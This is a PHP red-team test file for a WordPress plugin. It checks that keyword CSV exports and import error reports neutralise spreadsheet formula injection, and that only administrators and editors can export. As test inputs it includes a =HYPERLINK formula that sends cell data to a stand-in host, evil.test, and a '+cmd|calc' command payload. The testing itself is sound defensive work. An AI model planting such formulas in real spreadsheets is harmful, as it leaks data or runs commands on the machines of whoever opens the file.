<?php
/**
 * Red team: spreadsheet formulas smuggled into the CSV files an admin downloads.
 *
 * @package Igny8\Tests
 */

declare( strict_types=1 );

namespace Igny8\Tests\Red_Team;

use Igny8\Security\Csv_Export;
use Igny8\Tests\TestCase;

/**
 * Keywords and import lines are other people's text. Opened in Excel, LibreOffice or Google Sheets a
 * cell starting with =, +, -, @, a tab or a carriage return runs as a formula (=HYPERLINK sends the
 * sheet's data away), so every CSV the plugin writes turns such cells into text.
 */
final class Csv_Formula_Injection_Test extends TestCase {

	private const FORMULA = '=HYPERLINK("https://evil.test/?d="&A2)';

	protected function setUp(): void {
		parent::setUp();
		$this->run_outside_transaction();
	}

	public function test_a_keyword_cannot_plant_a_formula_in_the_keyword_export(): void {
		$this->as_user( $this->create_user( 'administrator' ) );
		$keywords = array( self::FORMULA, '@SUM(1+1)', '+cmd|calc', '-2+3' );
		$created  = $this->rest( 'POST', '/igny8/v1/planner/keywords/bulk_create', array( 'keywords' => array_map( static fn ( string $k ): array => array( 'keyword' => $k, 'search_volume' => 10 ), $keywords ) ) );
		$this->assertSame( 4, $created->get_data()['created'], wp_json_encode( $created->get_data() ) );

		foreach ( array( 'administrator', 'editor', 'author', 'contributor', 'subscriber' ) as $role ) {
			$this->as_user( $this->create_user( $role ) );
			$response = $this->rest( 'GET', '/igny8/v1/planner/keywords/export' );
			if ( ! in_array( $role, array( 'administrator', 'editor' ), true ) ) {
				$this->assert_rest_error( 'rest_forbidden', 403, $response );
				continue;
			}
			$cells = $this->first_cells( (string) $response->get_data() );
			$this->assertSame( 'Keyword', array_shift( $cells ) );
			$this->assertNotEmpty( $cells );
			foreach ( $cells as $cell ) {
				$this->assertDoesNotMatchRegularExpression( "/^[=+\\-@\t\r]/", $cell, $role );
				$this->assertStringStartsWith( "'", $cell, $role );
			}
		}
	}

	public function test_an_uploaded_line_cannot_plant_a_formula_in_the_import_error_report(): void {
		$this->as_user( $this->create_user( 'administrator' ) );
		$session = $this->rest( 'POST', '/igny8/v1/planner/keywords/import', array( 'file_name' => 'mine.csv', 'content' => "Notes,Phrase text,Searches\n" . self::FORMULA . ",,50\nx,garden soil,40\n" ) )->get_data();
		$this->rest( 'POST', '/igny8/v1/planner/keywords/import/' . $session['id'] . '/mapping', array( 'mapping' => array( 'keyword' => 1, 'search_volume' => 2 ) ) );
		$this->assertSame( 1, $this->rest( 'POST', '/igny8/v1/planner/keywords/import/' . $session['id'] . '/run' )->get_data()['failed'] );

		$report = (string) $this->rest( 'GET', '/igny8/v1/planner/keywords/import/' . $session['id'] . '/report' )->get_data();

		$rows = array_map( 'str_getcsv', array_filter( explode( "\n", $report ) ) );
		$this->assertSame( array( 'line', 'reason', 'row' ), $rows[0] );
		$this->assertStringStartsWith( "'", $rows[1][2] );
		$this->assertStringContainsString( 'HYPERLINK', $rows[1][2] );
	}

	public function test_numbers_stay_numbers_and_plain_text_stays_plain(): void {
		$this->assertSame( array( '-3', '+1.5', '12', 'compost', "'=1+1", "'-x", "'@a", "'\rb", '' ), array_map( array( Csv_Export::class, 'cell' ), array( -3, '+1.5', '12', 'compost', '=1+1', '-x', '@a', "\rb", null ) ) );
	}

	/**
	 * First cell of every line of a CSV text.
	 *
	 * @return string[]
	 */
	private function first_cells( string $csv ): array {
		$cells  = array();
		$handle = fopen( 'php://temp', 'w+b' );
		fwrite( $handle, $csv );
		rewind( $handle );
		while ( false !== ( $row = fgetcsv( $handle, 0, ',', '"', '\\' ) ) ) {
			$cells[] = (string) $row[0];
		}
		fclose( $handle );
		return $cells;
	}
}
